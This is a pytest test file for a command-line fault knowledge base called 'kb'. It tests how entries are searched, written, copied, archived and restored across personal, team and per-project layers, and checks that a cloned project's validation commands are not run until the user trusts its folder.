"""Layers: the personal knowledge base, the team layers of the config file, a project's .kb/ folder.

A search reads them all at once and names each result's layer; a layer that does not answer is one
line, and the others answer; `kb add --to` chooses where a write goes; `kb --layer` works on one.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from kb.cli.app import app
from kb.entry.folder import TOMBSTONES
from kb.errors import KbError
from kb.layers.config import Layer, parse_config, project_folder, reading_layers
from tests.command_line import kb

TEAM_FAULT = "OSError: the team's frobnicator lease expired mid-epoch"
PROJECT_FAULT = "RuntimeError: the project's feature cache predates the schema"
DOWN = "postgresql+psycopg://kb@127.0.0.1:1/nowhere"


def kb_process(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """kb as its console script runs it: `kb search` on the lean path."""
    return subprocess.run(
        [sys.executable, "-m", "kb", *args],
        capture_output=True,
        text=True,
        env=os.environ.copy(),
        cwd=cwd,
        timeout=120,
    )


def entry_file(key: str, symptom: str, fix: str) -> str:
    front = f'+++\nkey = "{key}"\ndomain = "data"\n+++\n\n'
    return front + f"## Symptom\n\n{symptom}\n\n## Validation\n\nls /tmp\n\n## Fix\n\n{fix}\n"


@pytest.fixture
def team(tmp_path: Path, runner: CliRunner) -> Path:
    """A team database holding one fault, and a project with one in its .kb/ folder; the config names
    the team database and a server that does not answer."""
    team_db = tmp_path / "team.db"
    assert kb("--db", str(team_db), "init", "--empty").exit_code == 0
    added = runner.invoke(
        app,
        [
            "add",
            "--db",
            str(team_db),
            "-s",
            TEAM_FAULT,
            "-d",
            "data",
            "-v",
            "true",
            "-f",
            "renew",
            "--key",
            "team-lease",
        ],
    )
    assert added.exit_code == 0, added.output
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "kb" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(
        f'[[layer]]\nname = "team"\ndatabase = "{team_db}"\n\n[[layer]]\nname = "down"\ndatabase = "{DOWN}"\n'
    )
    project = tmp_path / "project"
    (project / ".kb" / "data").mkdir(parents=True)
    (project / "src").mkdir()
    (project / ".kb" / "data" / "feature-cache.md").write_text(
        entry_file("feature-cache", PROJECT_FAULT, "make features")
    )
    return project


# --- the config file and the project folder, pure ---------------------------------------------------


def test_a_config_names_database_and_folder_layers_in_order() -> None:
    text = (
        '[[layer]]\nname = "team"\ndatabase = "postgresql://db/kb"\n\n'
        '[[layer]]\nname = "infra"\nfolder = "~/faults"\n'
    )
    assert parse_config(text, "config.toml") == [
        Layer("team", "database", "postgresql://db/kb"),
        Layer("infra", "folder", os.path.expanduser("~/faults")),
    ]


def test_a_relative_path_in_the_config_is_read_from_the_configs_folder() -> None:
    """Read from the working directory, `folder = "team-kb"` made the `team-kb/` of whichever cloned
    repository kb ran in a trusted team layer, its checks offered, and `database = "team.db"` made
    and seeded a new database in every folder kb ran in."""
    text = (
        '[[layer]]\nname = "team"\nfolder = "team-kb"\n\n[[layer]]\nname = "db"\ndatabase = "team.db"\n\n'
        '[[layer]]\nname = "url"\ndatabase = "sqlite:///faults/team.db"\n\n'
        '[[layer]]\nname = "server"\ndatabase = "postgresql://db/kb"\n'
    )
    assert parse_config(text, "/home/me/.config/kb/config.toml") == [
        Layer("team", "folder", "/home/me/.config/kb/team-kb"),
        Layer("db", "database", "/home/me/.config/kb/team.db"),
        Layer("url", "database", "sqlite:////home/me/.config/kb/faults/team.db"),
        Layer("server", "database", "postgresql://db/kb"),
    ]


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("[[layer]]\nname = 'team'\n", "needs exactly one of database"),
        ("[[layer]]\nname = 'team'\ndatabase = 'x'\nfolder = 'y'\n", "needs exactly one of database"),
        ("[[layer]]\ndatabase = 'x'\n", "needs a name"),
        ("[[layer]]\nname = 'Team Server'\ndatabase = 'x'\n", "needs a name"),
        ('[[layer]]\nname = "team\\n"\ndatabase = "x"\n', "needs a name"),  # `$` matched before it
        ("[[layer]]\nname = 'personal'\ndatabase = 'x'\n", "the name 'personal' is taken"),
        ("[[layer]]\nname = 'a'\ndatabase = 'x'\n[[layer]]\nname = 'a'\nfolder = 'y'\n", "'a' is taken"),
        ("[sources]\nname = 'a'\n", "unknown table or key 'sources'"),
        ("[[layer]]\nname = 'a'\nfolder = 'y'\n[[source]]\nname = 'b'\nfolder = 'z'\n", "holds both"),
        ("[[layer]\n", "config.toml:"),
        ("x = " + "[" * 50_000 + "]" * 50_000 + "\n", "nested too deeply"),
        ("x = " + "9" * 5000 + "\n", "a number longer than any setting"),
    ],
)
def test_a_config_kb_cannot_read_names_the_fault(text: str, fragment: str) -> None:
    with pytest.raises(KbError, match=fragment.replace("(", r"\(")):
        parse_config(text, "config.toml")


def test_a_config_written_before_layers_were_called_layers_still_reads() -> None:
    old = '[[source]]\nname = "team"\ndatabase = "postgresql://db/kb"\n'
    assert parse_config(old, "config.toml") == parse_config(old.replace("source", "layer"), "config.toml")


VALUES = st.one_of(st.text(st.characters(exclude_categories=["Cs"])), st.integers(), st.booleans())
SOURCES = st.lists(st.dictionaries(st.sampled_from(["name", "database", "folder", "x"]), VALUES), max_size=4)


def as_toml(sources: list[dict[str, str | int]]) -> str:
    return "".join(
        "[[layer]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in source.items()) for source in sources
    )


@given(st.one_of(st.text(), SOURCES.map(as_toml)))
def test_any_config_is_read_or_refused_with_a_kb_error(text: str) -> None:
    try:
        layers = parse_config(text, "config.toml")
    except KbError:
        return
    assert all(layer.kind in ("database", "folder") and layer.spec for layer in layers)
    assert len({layer.name for layer in layers}) == len(layers)


def test_the_project_folder_is_the_nearest_kb_folder_above(tmp_path: Path) -> None:
    (tmp_path / "repo" / ".kb").mkdir(parents=True)
    (tmp_path / "repo" / "src" / "deep").mkdir(parents=True)
    assert project_folder(str(tmp_path / "repo" / "src" / "deep")) == str(tmp_path / "repo" / ".kb")
    assert project_folder(str(tmp_path)) is None


def test_with_no_config_and_no_project_a_search_reads_the_personal_knowledge_base_alone() -> None:
    assert [layer.name for layer in reading_layers()] == ["personal"]


# --- searching every layer ----------------------------------------------------------------------------


def test_a_dangling_link_in_a_project_folder_silences_that_layer_alone(team: Path) -> None:
    """One link to nowhere in a cloned repository's .kb/ made every search and `kb layers` fail in one
    line, no layer answering."""
    (team / ".kb" / "data" / "x.md").symlink_to("/nonexistent/x.md")
    found = kb_process("search", TEAM_FAULT, "--json", cwd=team / "src")
    assert found.returncode == 0 and json.loads(found.stdout)["results"][0]["key"] == "team-lease"
    assert "the project layer did not answer" in found.stderr and "x.md: is a symlink" in found.stderr


def test_a_search_ranks_across_layers_and_names_each_results_layer(team: Path) -> None:
    found = kb_process("search", TEAM_FAULT, "--json", cwd=team / "src")
    assert found.returncode == 0
    data = json.loads(found.stdout)
    assert data["results"][0]["key"] == "team-lease" and data["results"][0]["layer"] == "team"
    assert {r["layer"] for r in data["results"][1:]} <= {"personal", "team", "project"}
    assert data["unreachable"] == [{"layer": "down", "reason": data["unreachable"][0]["reason"]}]
    assert found.stderr.count("\n") == 1 and "the down layer did not answer" in found.stderr
    project = kb_process("search", PROJECT_FAULT, cwd=team / "src")
    # shown first, and no known fault (exit 1): an untrusted folder's entry is not one until kb trust
    assert project.returncode == 1 and "1. feature-cache  [data · project, untrusted]" in project.stdout
    seed = kb_process("search", "RuntimeError: CUDA error: device-side assert triggered", "--json", cwd=team)
    keys = [r["key"] for r in json.loads(seed.stdout)["results"]]
    assert keys[0] == "cuda-device-side-assert" and len(keys) == len(set(keys))  # a seed, once


def test_a_hit_is_counted_where_the_entry_lives(team: Path, tmp_path: Path, runner: CliRunner) -> None:
    assert kb_process("search", TEAM_FAULT, cwd=team).returncode == 0
    shown = kb("--db", str(tmp_path / "team.db"), "show", "team-lease", "--json")
    assert json.loads(shown.stdout)["hits"] == 1


def test_a_changed_entry_file_is_searched_as_it_is_now(team: Path) -> None:
    changed = team / ".kb" / "data" / "feature-cache.md"
    changed.write_text(entry_file("feature-cache", "RuntimeError: the quux sharder lost its manifest", "x"))
    found = kb_process("search", "RuntimeError: the quux sharder lost its manifest", "--json", cwd=team)
    assert json.loads(found.stdout)["results"][0]["key"] == "feature-cache"


def test_an_entry_file_rewritten_to_the_same_size_and_time_is_read_as_it_is_now(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tar or `rsync -a` can write other text of the same length under the same modification time:
    kb kept showing, and would have offered to run, the check of the text it had indexed before, not
    the one in the file the user read and trusted."""
    monkeypatch.chdir(team)
    changed = team / ".kb" / "data" / "feature-cache.md"
    changed.write_text(entry_file("feature-cache", PROJECT_FAULT, "x").replace("ls /tmp", "echo AAAA"))
    assert "echo AAAA" in kb("--layer", "project", "show", "feature-cache").stdout
    kept = changed.stat()
    changed.write_text(changed.read_text().replace("echo AAAA", "echo BBBB"))
    os.utime(changed, ns=(kept.st_atime_ns, kept.st_mtime_ns))
    assert changed.stat().st_size == kept.st_size
    assert "echo BBBB" in kb("--layer", "project", "show", "feature-cache").stdout


def test_a_config_kb_cannot_read_is_one_line(team: Path) -> None:
    (Path(os.environ["XDG_CONFIG_HOME"]) / "kb" / "config.toml").write_text("[[layer]]\nname = 3\n")
    result = kb_process("search", TEAM_FAULT, cwd=team)
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "config.toml" in result.stderr


# --- where a write goes, and one layer at a time --------------------------------------------------------


def test_kb_add_to_a_layer_writes_there_and_not_to_the_personal_knowledge_base(
    team: Path, runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(team)
    flags = ["-d", "data", "-v", "true", "-f", "rotate the token"]
    symptom = "PermissionError: the team registry token expired"
    added = kb("add", "-s", symptom, *flags, "--to", "team")
    assert added.exit_code == 0, added.output
    assert "to the team layer; see it with: kb --layer team show" in added.stdout
    assert (
        runner.invoke(
            app, ["--db", str(tmp_path / "team.db"), "show", "permissionerror-team-registry-token-expired"]
        ).exit_code
        == 0
    )
    assert kb("show", "permissionerror-team-registry-token-expired").exit_code == 1

    to_project = runner.invoke(
        app, ["add", "-s", "OSError: the project's shard index is stale", *flags, "--to", "project"]
    )
    assert to_project.exit_code == 0, to_project.output
    written = team / ".kb" / "data" / "oserror-project-s-shard-index-stale.md"
    assert "OSError: the project's shard index is stale" in written.read_text()
    again = kb("add", "-s", PROJECT_FAULT, *flags, "--to", "project")
    assert again.exit_code == 1 and "this looks like 'feature-cache'" in again.stderr  # its duplicate check

    unknown = kb("add", "-s", symptom, *flags, "--to", "nowhere")
    assert unknown.exit_code == 1 and "no layer called 'nowhere'" in unknown.stderr


def test_a_layer_can_be_listed_exported_and_changed_on_its_own(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(team)
    listed = kb("--layer", "project", "list", "--json")
    assert [e["key"] for e in json.loads(listed.stdout)] == ["feature-cache"]
    tree = kb("--layer", "team", "tree")
    assert "team-lease" in tree.stdout and "cuda-device-side-assert" not in tree.stdout
    wiki = kb("--layer", "project", "export", "markdown", "--out", str(tmp_path / "p.md"))
    assert wiki.exit_code == 0 and "feature-cache" in (tmp_path / "p.md").read_text()
    assert kb("--layer", "project", "rm", "feature-cache").exit_code == 0
    assert not (team / ".kb" / "data" / "feature-cache.md").exists()  # the folder holds active entries
    assert (team / ".kb" / "archived" / "feature-cache.md").exists()  # and what a restore brings back


def test_kb_layers_says_which_answer(team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(team)
    result = kb("layers", "--json")
    assert result.exit_code == 0
    states = {s["name"]: s for s in json.loads(result.stdout)["layers"]}
    assert list(states) == ["personal", "team", "down", "project"]
    assert states["team"]["entries"] == 1 and states["project"]["entries"] == 1
    assert states["down"]["entries"] is None and "cannot connect" in states["down"]["problem"]
    plain = kb("layers")
    assert "DOES NOT ANSWER" in plain.stdout
    assert states["personal"]["archived"] == 0 and "archived)" not in plain.stdout
    assert kb("sources", "--json").stdout == result.stdout  # the command's old name still answers
    kb("rm", "cuda-device-side-assert")  # a search reads it no more: nor does the count
    personal = json.loads(kb("layers", "--json").stdout)["layers"][0]
    assert (personal["entries"], personal["archived"]) == (states["personal"]["entries"] - 1, 1)
    assert f"{personal['entries']} entries (+1 archived)" in kb("layers").stdout


def test_commands_that_need_a_database_refuse_a_folder_layer(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Only the commands that write through open_kb() give a folder's entries back to its files."""
    monkeypatch.chdir(team)
    for command in ("init", "tui"):
        result = kb("--layer", "project", command)
        assert result.exit_code != 0 and "the layer 'project' is an entry folder" in result.stderr


def test_a_layer_that_is_not_there_is_one_line(runner: CliRunner) -> None:
    """`kb --layer nope list` raised its KbError as a traceback from the global options."""
    result = kb("--layer", "nope", "list")
    assert result.exit_code == 1
    assert result.stderr == "kb: no layer called 'nope'; there are: personal (kb layers lists them)\n"


# --- layers tell the truth ------------------------------------------------------------------------

LABELS = "IndexError: Target 5 is out of bounds."
LABELS_KEY = "cross-entropy-label-out-of-range"


def project_copy_of_a_seed(project: Path, runner: CliRunner, fix: str) -> None:
    """The project's .kb/ holds its own version of a seed entry, under the seed's key."""
    from kb.entry.file import render_entry_file
    from kb.store.entry_store import open_store

    with open_store() as store:
        content = store.get(LABELS_KEY).content()
    (project / ".kb" / "data" / f"{LABELS_KEY}.md").write_text(render_entry_file(content.replace(fix=fix)))


def test_a_search_says_when_another_layer_holds_the_key_with_another_text(
    team: Path, runner: CliRunner
) -> None:
    """One key in two layers with two fixes: search showed one, and nothing said they differ."""
    project_copy_of_a_seed(team, runner, "the project's own fix")
    found = kb_process("search", LABELS, "--json", cwd=team)
    top = json.loads(found.stdout)["results"][0]
    assert (top["key"], top["layer"]) == (LABELS_KEY, "personal")
    assert top["also_in"] == [{"layer": "project", "same": False}]
    plain = kb_process("search", LABELS, cwd=team)
    assert f"also in project, with another text: kb --layer project show {LABELS_KEY}" in plain.stdout


def test_show_and_check_act_on_the_entry_the_search_showed(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    project_copy_of_a_seed(team, runner, "the project's own fix")
    assert kb("rm", LABELS_KEY).exit_code == 0  # the personal one is archived
    found = kb_process("search", LABELS, "--json", cwd=team)
    assert json.loads(found.stdout)["results"][0]["layer"] == "project"
    shown = kb_process("show", LABELS_KEY, cwd=team)
    assert shown.returncode == 0 and "the project's own fix" in shown.stdout
    assert "from the project layer, as your last search showed it" in shown.stderr
    mine = kb_process("--layer", "personal", "show", LABELS_KEY, cwd=team)
    assert "the project's own fix" not in mine.stdout and not mine.stderr
    monkeypatch.chdir(team)
    checked = kb("check", LABELS_KEY, "--json", "--yes", "--timeout", "5")
    assert "from the project layer" in checked.stderr


def test_a_write_to_your_own_entry_says_the_search_showed_another_layers(
    team: Path, runner: CliRunner, tmp_path: Path
) -> None:
    """The search showed the project's entry; `kb rm KEY` archived the personal copy, never seen,
    said only `archived KEY`, and the next search showed the project's entry as before."""
    project_copy_of_a_seed(team, runner, "the project's own fix")
    assert kb("--layer", "personal", "rm", LABELS_KEY).exit_code == 0  # so the search shows the project's
    found = kb_process("search", LABELS, "--json", cwd=team)
    assert json.loads(found.stdout)["results"][0]["layer"] == "project"
    assert kb("--layer", "personal", "restore", LABELS_KEY).exit_code == 0  # yours, active again
    elsewhere = tmp_path / "elsewhere"  # a folder without the project's `.kb/`: the search was not here
    elsewhere.mkdir()
    restored = kb_process("restore", LABELS_KEY, cwd=elsewhere)
    assert restored.returncode == 0 and "already active" in restored.stdout and not restored.stderr
    removed = kb_process("rm", LABELS_KEY, cwd=team)
    assert removed.returncode == 0 and f"archived {LABELS_KEY}" in removed.stdout
    assert (
        f"kb: rm acts on your own {LABELS_KEY}; your last search showed the project layer's"
        f" (kb --layer project rm {LABELS_KEY} acts on that one)\n"
    ) == removed.stderr


def test_a_search_in_one_repository_is_not_followed_to_another_repositorys_entry(
    team: Path, tmp_path: Path
) -> None:
    """Two repositories whose `.kb/` hold one key with two checks: a search in the first, then `kb
    check KEY` in the second ran the second's check, "as your last search showed it"."""
    other = tmp_path / "other"
    (other / ".kb" / "data").mkdir(parents=True)
    (other / ".kb" / "data" / "feature-cache.md").write_text(
        entry_file("feature-cache", PROJECT_FAULT, "the other repository's fix")
    )
    assert (
        json.loads(kb_process("search", PROJECT_FAULT, "--json", cwd=team).stdout)["results"][0]["layer"]
        == "project"
    )
    shown = kb_process("show", "feature-cache", cwd=other)
    assert "as your last search showed it" not in shown.stderr
    followed = kb_process("show", "feature-cache", cwd=team)  # where the search ran, it is followed
    assert (
        followed.returncode == 0
        and "from the project layer, as your last search showed it" in followed.stderr
    )


def test_history_follows_the_search_to_the_team_layer_as_show_does(team: Path) -> None:
    """`kb show team-lease` showed the team's entry after a search, and `kb history team-lease` said
    there was no such entry."""
    assert kb("search", TEAM_FAULT).exit_code == 0
    shown = kb("history", "team-lease")
    assert shown.exit_code == 0, shown.output
    assert "from the team layer, as your last search showed it" in shown.stderr
    assert "your own" not in shown.stderr  # the personal knowledge base has no team-lease to offer
    assert "see one in full: kb --layer team history team-lease --version N" in shown.stdout
    first = kb("history", "team-lease", "--version", "1")
    assert first.exit_code == 0 and TEAM_FAULT in first.stdout
    mine = kb("--layer", "personal", "history", "team-lease")
    assert mine.exit_code == 1 and "no entry with key 'team-lease'" in mine.stderr


def test_a_key_only_another_layer_holds_is_named_there_without_a_search(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With no search to follow, `kb check feature-cache` in the project said "no entry with key"."""
    monkeypatch.chdir(team)
    for command in ("show", "check", "history", "rm", "restore", "edit"):  # rm and edit said "no entry"
        missing = kb(command, "feature-cache")
        assert missing.exit_code == 1
        assert missing.stderr == (
            "kb: no entry with key 'feature-cache' in your personal knowledge base; the project layer"
            f" holds it: kb --layer project {command} feature-cache\n"
        )
    assert kb("show", "team-lease").stderr.endswith(
        "the team layer holds it: kb --layer team show team-lease\n"
    )
    # The layer that did not answer may hold it: "no entry" would be a claim kb cannot make.
    down = kb("show", "no-such-key").stderr
    assert down.startswith(
        "kb: no entry with key 'no-such-key' in your personal knowledge base; the down layer did not"
        " answer, so kb cannot say whether it holds one (cannot connect to "
    )
    assert down.count("\n") == 1


def test_kb_copy_takes_an_entry_to_another_layer_and_overwrites_only_when_told(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(team)
    copied = kb("copy", LABELS_KEY, "--to", "project")
    assert copied.exit_code == 0, copied.output
    assert (team / ".kb" / "data" / f"{LABELS_KEY}.md").exists()
    assert "holds the same" in kb("copy", LABELS_KEY, "--to", "project").stdout
    project_copy_of_a_seed(team, runner, "the project's own fix")
    # the folder holds a stranger's entry too: none of it becomes the user's until it is read
    back = kb("--layer", "project", "copy", LABELS_KEY, "--to", "personal")
    assert back.exit_code == 1 and "which you have not trusted: kb copy would make" in back.stderr
    assert kb("trust", "--yes").exit_code == 0
    back = kb("--layer", "project", "copy", LABELS_KEY, "--to", "personal")
    assert back.exit_code == 1 and "with another text" in back.stderr and "--replace" in back.stderr
    back = kb("--layer", "project", "copy", LABELS_KEY, "--to", "personal", "--replace")
    assert back.exit_code == 0
    assert "the project's own fix" in kb("show", LABELS_KEY, "--json").stdout
    same = kb("copy", LABELS_KEY, "--to", "personal")
    assert same.exit_code == 2 and "--to names another layer" in same.stderr
    missing = kb("copy", "no-such-entry", "--to", "personal")  # was "in the personal layer already"
    assert missing.exit_code == 1 and "already" not in missing.stderr


def test_a_copy_that_meets_another_write_of_its_key_says_so(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two copies at once: the loser was told to "pick another --key" (copy has none), or that
    someone changed the entry "while you edited it", naming the personal entry to look at."""
    from kb.errors import KeyTaken
    from kb.store.entry_store import EntryStore

    def taken_meanwhile(self: EntryStore, content: Any, *args: Any, **kwargs: Any) -> Any:
        raise KeyTaken(content.key)

    monkeypatch.chdir(team)
    monkeypatch.setattr(EntryStore, "add", taken_meanwhile)
    lost = kb("copy", LABELS_KEY, "--to", "project")
    assert lost.exit_code == 1 and "--key" not in lost.stderr
    said = "written by someone else while this copy ran: not copied; see it with kb --layer project show"
    assert f"{said} {LABELS_KEY}" in lost.stderr


@pytest.mark.parametrize("unused_for", ["30d", "0w"])
def test_a_folder_layer_keeps_no_usage_so_it_is_never_pruned_as_unused(
    team: Path, monkeypatch: pytest.MonkeyPatch, unused_for: str
) -> None:
    """Hits on a folder's entries are not counted: `--unused-for` would have archived them all (and
    `0w`, a duration of nothing, slipped past the refusal as if none were given)."""
    monkeypatch.chdir(team)
    refused = kb("--layer", "project", "prune", "--unused-for", unused_for, "--apply")
    assert refused.exit_code == 2 and "keeps no usage" in refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert (team / ".kb" / "data" / "feature-cache.md").exists()


def test_a_folder_layers_usage_and_dates_are_unknown_in_json_and_to_since(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--json` said `"hits": 0` and dated each entry when kb read the folder, and `--since today`
    exported every entry as changed today: a folder keeps neither."""
    monkeypatch.chdir(team)
    shown = json.loads(kb("--layer", "project", "show", "feature-cache", "--json").stdout)
    listed = json.loads(kb("--layer", "project", "list", "--json").stdout)
    for record in (shown, *listed):
        assert [record[k] for k in ("hits", "occurrences", "created", "updated", "last_hit")] == [None] * 5
    today = datetime.now(UTC).date().isoformat()
    for what in ("markdown", "jsonl"):
        refused = kb("--layer", "project", "export", what, "--since", today)
        assert refused.exit_code == 2 and "keeps no dates, so --since" in refused.stderr, what
    assert json.loads(kb("--layer", "team", "show", "team-lease", "--json").stdout)["hits"] == 0


@pytest.mark.parametrize("status", ["never", "broken"])
def test_a_folder_layer_keeps_no_check_runs_so_it_is_never_pruned_by_them(
    team: Path, monkeypatch: pytest.MonkeyPatch, status: str
) -> None:
    """A folder records no check run: `--status never --apply` archived every entry of it, the one
    whose check had just run too."""
    monkeypatch.chdir(team)
    assert kb("trust", "--yes", str(team / ".kb")).exit_code == 0
    ran = kb("--layer", "project", "check", "feature-cache", "--yes")
    assert "not recorded" in ran.stdout  # a folder keeps no check run
    refused = kb("--layer", "project", "prune", "--status", status, "--apply")
    assert refused.exit_code == 2 and "keeps no usage and no check runs" in refused.stderr
    assert f"--status {status}" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    assert (team / ".kb" / "data" / "feature-cache.md").exists()
    by_domain = kb("--layer", "project", "prune", "--domain", "data")
    assert by_domain.exit_code == 0 and "would archive feature-cache" in by_domain.stdout


def test_kb_copy_does_not_publish_an_archived_entry_as_active(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(team)
    assert kb("rm", LABELS_KEY).exit_code == 0
    copied = kb("copy", LABELS_KEY, "--to", "project")
    assert copied.exit_code == 1 and copied.stdout == ""
    assert (
        f"'{LABELS_KEY}' is archived in the personal layer; restore it first (kb restore {LABELS_KEY})"
        in copied.stderr
    )
    assert not (team / ".kb" / "data" / f"{LABELS_KEY}.md").exists()


def test_kb_copy_says_when_the_layer_holds_the_entry_archived(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It said "holds it with another text" of an archived copy with the very same text, and
    --replace then made a teammate's archived entry active again with a plain "copied"."""
    monkeypatch.chdir(team)
    assert kb("copy", LABELS_KEY, "--to", "project").exit_code == 0
    assert kb("--layer", "project", "rm", LABELS_KEY).exit_code == 0
    again = kb("copy", LABELS_KEY, "--to", "project")
    assert again.exit_code == 1 and again.stderr == (
        f"kb: the project layer holds '{LABELS_KEY}' archived, with the same text; bring it back there with:"
        f" kb --layer project restore {LABELS_KEY}\n"
    )
    assert kb("edit", LABELS_KEY, "--applies-to", "torch>=2.0").exit_code == 0
    other = kb("copy", LABELS_KEY, "--to", "project")
    assert other.exit_code == 1 and f"holds '{LABELS_KEY}' archived, with another text" in other.stderr
    replaced = kb("copy", LABELS_KEY, "--to", "project", "--replace")
    assert replaced.exit_code == 0 and replaced.stdout == (
        f"copied {LABELS_KEY} from the personal layer to the project layer"
        " over its archived version, active again\n"
    )
    assert (team / ".kb" / "data" / f"{LABELS_KEY}.md").exists()


def test_a_folder_layer_delete_can_be_restored(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`kb --layer project rm KEY` deleted the file and suggested `kb restore KEY`, which could not
    find it."""
    monkeypatch.chdir(team)
    removed = kb("--layer", "project", "rm", "feature-cache")
    assert "undo with: kb --layer project restore feature-cache" in removed.stdout
    assert not (team / ".kb" / "data" / "feature-cache.md").exists()
    assert (team / ".kb" / "archived" / "feature-cache.toml").exists()
    restored = kb("--layer", "project", "restore", "feature-cache")
    assert restored.exit_code == 0, restored.output
    assert "make features" in (team / ".kb" / "data" / "feature-cache.md").read_text()
    assert not (team / ".kb" / "archived").exists() or not list((team / ".kb" / "archived").iterdir())


@pytest.mark.parametrize(
    "command",
    [
        ["rm", "feature-cache"],
        ["add", "--new", "-s", "OSError: the shard map went stale", "-d", "data", "-v", "true", "-f", "x"],
        ["edit", "feature-cache", "--applies-to", "torch>=2.1"],
    ],
    ids=["rm", "add", "edit"],
)
def test_a_folder_write_kb_may_not_make_prints_no_success(
    team: Path, monkeypatch: pytest.MonkeyPatch, command: list[str]
) -> None:
    """`kb --layer project rm KEY` on a folder kb may not write printed "archived feature-cache"
    and then the error: the success line came before the folder was written."""
    import errno
    import tempfile

    monkeypatch.chdir(team)

    def files() -> dict[Path, str]:
        return {path: path.read_text() for path in (team / ".kb").rglob("*") if path.is_file()}

    before = files()

    def refused(*args: object, dir: str | None = None, **kwargs: object) -> tuple[int, str]:
        raise PermissionError(errno.EACCES, "Permission denied", f"{dir}/.kb-x1y2.tmp")

    monkeypatch.setattr(tempfile, "mkstemp", refused)
    ran = kb("--layer", "project", *command)
    assert ran.exit_code == 1 and ran.stdout == "", ran.stdout
    assert ran.stderr.startswith("kb: cannot write in ") and len(ran.stderr.strip().splitlines()) == 1
    assert files() == before


def test_kb_add_points_out_the_same_fault_in_another_layer(
    team: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same fault added by two people under two keys was never noticed."""
    flags = ["-s", PROJECT_FAULT, "-d", "data", "-v", "ls /tmp", "-f", "rebuild the cache", "--key", "mine"]
    added = kb_process("add", *flags, cwd=team)
    assert added.returncode == 0, added.stderr
    assert "the project layer already has an entry like this: feature-cache" in added.stderr
    assert "kb --layer project show feature-cache" in added.stderr


def test_kb_add_claims_no_twin_in_an_untrusted_folder_from_search_alone(team: Path) -> None:
    """Searched alone, a cloned project's one entry is what search is sure of for any error sharing a
    few of its words: `kb add --to team` of an OSError about a cache said the project's RuntimeError
    about a schema was "an entry like this". A stranger's entry is never what kb is sure of."""
    other = ["-d", "data", "-v", "ls /tmp", "-f", "clear it", "--confirms", "exit 0", "--to", "team"]
    added = kb_process("add", "-s", "OSError: feature cache predates nothing", *other, cwd=team / "src")
    assert added.returncode == 0, added.stderr
    assert "feature-cache" not in added.stderr and "already has" not in added.stderr


@pytest.mark.parametrize("trick", ["fifo", "2 MB file"])
def test_a_project_folder_kb_cannot_read_quickly_is_one_line_and_the_others_answer(
    team: Path, trick: str
) -> None:
    """A FIFO named x.md in .kb/ hung kb search; a 2 MB entry file made every search take ~16 s."""
    import time

    trap = team / ".kb" / "data" / "x.md"
    if trick == "fifo":
        os.mkfifo(trap)
    else:
        trap.write_text(entry_file("x", "OSError: big " + "word " * 400_000, "none"))
    started = time.monotonic()
    found = kb_process("search", TEAM_FAULT, "--json", cwd=team)
    assert time.monotonic() - started < 30
    assert json.loads(found.stdout)["results"][0]["key"] == "team-lease"
    line = next(line for line in found.stderr.splitlines() if "project" in line)
    assert "x.md" in line and ("not a regular file" in line or "larger than kb reads (512 KB)" in line)


# --- whose folders kb reads, and whose checks it offers ----------------------------------------------


def test_a_project_folder_is_shown_but_its_checks_wait_for_kb_trust(
    team: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A .kb/ arrives with every clone: its entries are data until the user trusts the folder."""
    found = kb_process("search", PROJECT_FAULT, "--json", cwd=team)
    answer = json.loads(found.stdout)
    top = answer["results"][0]
    assert (top["key"], top["layer"], top["trusted"]) == ("feature-cache", "project", False)
    assert "check" not in top and top["validation"] is None  # a stranger's command, in no form
    # nor a known fault: a cloned repository's file would make any everyday error one
    assert found.returncode == 1 and not top["confident"]
    plain = kb_process("search", PROJECT_FAULT, cwd=team).stdout
    assert "$ ls /tmp" not in plain and f"kb trust {team / '.kb'}" in plain
    alone = kb_process("--layer", "project", "search", PROJECT_FAULT, "--json", cwd=team)  # that layer alone
    assert alone.returncode == 1 and not json.loads(alone.stdout)["results"][0]["confident"]
    alone_plain = kb_process("--layer", "project", "search", PROJECT_FAULT, cwd=team).stdout
    assert "$ ls /tmp" not in alone_plain and "confident" not in alone_plain.replace("No confident", "")
    shown = kb_process("show", "feature-cache", cwd=team)  # the entry the search showed: shown, marked
    assert f"{team / '.kb'} is not trusted: its check is shown as text" in shown.stderr
    as_json = json.loads(kb_process("show", "feature-cache", "--json", cwd=team).stdout)
    assert as_json["untrusted"] == str(team / ".kb")
    monkeypatch.chdir(team)
    refused = kb("--layer", "project", "check", "feature-cache", "--yes")
    assert refused.exit_code == 1 and "which you have not trusted" in refused.stderr
    assert "(read it with kb --layer project show feature-cache, then: kb trust" in refused.stderr
    assert kb("--layer", "project", "show", "feature-cache").exit_code == 0  # the way it names works
